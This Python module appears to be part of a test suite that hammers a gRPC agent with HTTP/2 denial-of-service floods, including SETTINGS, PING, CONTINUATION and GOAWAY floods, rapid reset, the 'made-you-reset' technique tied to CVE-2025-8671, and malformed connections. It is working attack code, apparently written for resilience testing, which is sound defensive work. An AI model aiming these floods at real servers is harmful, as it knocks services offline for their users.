"""Frames of HTTP/2 that cost the sender little."""

import struct
import time

from lib import grpc, http2
from lib.flood import flood
from lib.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    request,
    setting,
)
from lib.suite import attack

WHO_AM_I = request(grpc.WHO_AM_I)
MILLION = 1_000_000


def endless(batch, begin=b"", count=1000):
    """Returns a body that sends the same frames until the time is over or the agent disconnects."""

    def body(socket, end):
        sent = 0
        with Connection(socket) as connection:
            connection.send(begin)
            while time.monotonic() < end:
                connection.send_and_forget(batch)
                sent += count
        return sent

    return body


def opened(stream=1):
    """The start of a call."""
    return frame(HEADERS, END_HEADERS, stream, WHO_AM_I)


@attack("settings-flood")
def settings_flood(world):
    """SETTINGS frames without end, each of which wants an acknowledgement."""
    return flood(world, endless(frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 65535)) * 1000))


@attack("settings-of-many-lines")
def settings_of_many_lines(world):
    """SETTINGS frames with 2,700 settings each, that change the windows of 64 open streams up and down."""
    begin = b"".join(opened(2 * index + 1) for index in range(64))
    lines = b"".join(setting(INITIAL_WINDOW_SIZE, 1 + index % 2 * 60000) for index in range(2700))
    return flood(world, endless(frame(SETTINGS, payload=lines) * 10, begin, 10))


@attack("ping-flood")
def ping_flood(world):
    """PING frames without end."""
    return flood(world, endless(frame(PING, payload=b"hostile!") * 1000))


@attack("ping-flood-unread")
def ping_flood_unread(world):
    """PING and SETTINGS frames whose acknowledgements are never read."""

    def body(socket, end):
        sent = 0
        with Connection(socket, timeout=1) as connection:
            while time.monotonic() < end:
                connection.send(frame(PING, payload=b"hostile!") * 500 + frame(SETTINGS) * 500)
                sent += 1000
        return sent

    return flood(world, body)


@attack("priority-flood")
def priority_flood(world):
    """PRIORITY frames for ever new streams, each depending on the one before."""

    def body(socket, end):
        stream = 1
        with Connection(socket) as connection:
            while time.monotonic() < end and stream < 2**31 - 2100:
                batch = []
                for _ in range(1000):
                    batch.append(frame(PRIORITY, 0, stream + 2, struct.pack(">IB", stream, 255)))
                    stream += 2
                connection.send_and_forget(b"".join(batch))
        return stream // 2

    return flood(world, body)


@attack("window-update-flood")
def window_update_flood(world):
    """WINDOW_UPDATE frames of one octet, on the connection and on an open call."""
    one = struct.pack(">I", 1)
    batch = (frame(WINDOW_UPDATE, payload=one) + frame(WINDOW_UPDATE, stream=1, payload=one)) * 500
    return flood(world, endless(batch, opened()))


@attack("empty-data")
def empty_data(world):
    """DATA frames without data on a call that never ends."""
    return flood(world, endless(frame(DATA, 0, 1) * 1000, opened()))


@attack("padded-data")
def padded_data(world):
    """DATA frames of nothing but 255 octets of padding."""
    return flood(world, endless(frame(DATA, 8, 1, b"\xff" + b"\0" * 255) * 100, opened(), 100))


@attack("one-octet-data")
def one_octet_data(world):
    """A message that is said to have 4 GiB comes in a million DATA frames of one octet."""

    def body(socket, end):
        sent = 0
        with Connection(socket) as connection:
            connection.send(opened() + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
            while sent < MILLION and time.monotonic() < end:
                connection.send_and_forget(frame(DATA, 0, 1, b"x") * 1000)
                sent += 1000
        return sent

    return flood(world, body)


@attack("one-octet-data-small-message")
def one_octet_data_small(world):
    """Messages of 16,000 octets come octet by octet on 64 calls of each connection, a million frames in all."""

    def body(socket, end):
        streams = [2 * index + 1 for index in range(64)]
        sent = 0
        with Connection(socket) as connection:
            for stream in streams:
                connection.send(opened(stream) + frame(DATA, 0, stream, struct.pack(">BI", 0, 16000)))
            round_of_all = b"".join(frame(DATA, 0, stream, b"x") for stream in streams)
            while sent < MILLION and time.monotonic() < end:
                connection.send_and_forget(round_of_all)
                sent += len(streams)
        return sent

    return flood(world, body)


@attack("continuation-flood")
def continuation_flood(world):
    """A header block that never ends: CONTINUATION frames with fields."""
    fields = http2.literal(b"x-hostile", b"h" * 100) * 10
    return flood(world, endless(frame(CONTINUATION, 0, 1, fields) * 100, frame(HEADERS, 0, 1, WHO_AM_I), 100))


@attack("continuation-flood-empty")
def continuation_flood_empty(world):
    """A header block that never ends: CONTINUATION frames with nothing in them."""
    return flood(world, endless(frame(CONTINUATION, 0, 1) * 1000, frame(HEADERS, 0, 1, WHO_AM_I)))


def one_after_the_other(frames_of, per_batch=200):
    """Returns a body that keeps opening new streams."""

    def body(socket, end):
        stream = 1
        with Connection(socket) as connection:
            while time.monotonic() < end:
                batch = []
                for _ in range(per_batch):
                    batch.append(frames_of(stream))
                    stream += 2
                connection.send_and_forget(b"".join(batch))
        return stream // 2

    return body


CANCEL = struct.pack(">I", 8)


@attack("rapid-reset")
def rapid_reset(world):
    """Calls that are cancelled in the moment in which they are made."""
    call = frame(DATA, END_STREAM, 0, grpc.message())
    return flood(
        world,
        one_after_the_other(
            lambda stream: opened(stream)
            + call[:5]
            + struct.pack(">I", stream)
            + call[9:]
            + frame(RST_STREAM, 0, stream, CANCEL)
        ),
    )


@attack("made-you-reset")
def made_you_reset(world):
    """Calls that have the agent cancel them, by a window that is too large or a frame after the end (CVE-2025-8671)."""
    too_large = struct.pack(">I", 2**31 - 1)
    return flood(
        world,
        one_after_the_other(
            lambda stream: opened(stream)
            + frame(DATA, END_STREAM, stream, grpc.message())
            + (
                frame(WINDOW_UPDATE, stream=stream, payload=too_large)
                if stream & 2
                else frame(WINDOW_UPDATE, stream=stream, payload=b"\0\0\0\0")
            )
        ),
    )


@attack("half-closed-resets")
def half_closed(world):
    """Calls without a message, with half of one, with a wrong prefix, and cancelled ones that go on."""
    bodies = (b"", b"\0\0\0\0\x05ab", b"\x07\0\0\0\0", b"\0\0\0\0\0" * 3, b"\xff" * 16)

    def frames(stream):
        sent = opened(stream) + frame(DATA, END_STREAM, stream, bodies[stream // 2 % len(bodies)])
        return sent + frame(RST_STREAM, 0, stream, CANCEL) + frame(DATA, 0, stream, b"more")

    return flood(world, one_after_the_other(frames))


@attack("goaway-flood")
def goaway_flood(world):
    """GOAWAY frames without end, with 16,000 octets of debug data each."""
    return flood(world, endless(frame(GOAWAY, payload=b"\0" * 8 + b"\x1b[31m\n" * 2600) * 10, b"", 10))


@attack("unknown-frames")
def unknown_frames(world):
    """Frames of kinds that nobody knows, PUSH_PROMISE, and acknowledgements of nothing."""
    batch = frame(0x7F, 0xFF, 1, b"x" * 100) + frame(SETTINGS, ACK) + frame(PING, ACK, payload=b"hostile!")
    return flood(world, endless(batch * 300, opened(), 900))


@attack("garbage")
def garbage(world):
    """Connections that do not speak HTTP/2: nothing, half a preface, TLS, HTTP/1.1, a frame of 16 MiB, noise."""
    beginnings = (
        b"",
        http2.PREFACE[:12],
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x55" * 500,
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        http2.PREFACE + b"\xff\xff\xff\0\0\0\0\0\1" + b"x" * 20000,
        http2.PREFACE + frame(HEADERS, END_HEADERS, 0, WHO_AM_I),
        http2.PREFACE + frame(SETTINGS, payload=b"x" * 5),
        http2.PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 2, WHO_AM_I),
        http2.PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, b"\xff" * 200),
        bytes(range(256)) * 64,
    )

    def body(socket, end):
        made = 0
        while time.monotonic() < end:
            for beginning in beginnings:
                try:
                    with Connection(socket, shake=False, timeout=0.2) as connection:
                        connection.send(beginning)
                        made += 1
                        if made % 7 == 0:
                            connection.read_frame()
                except OSError:
                    pass
        return made

    return flood(world, body)
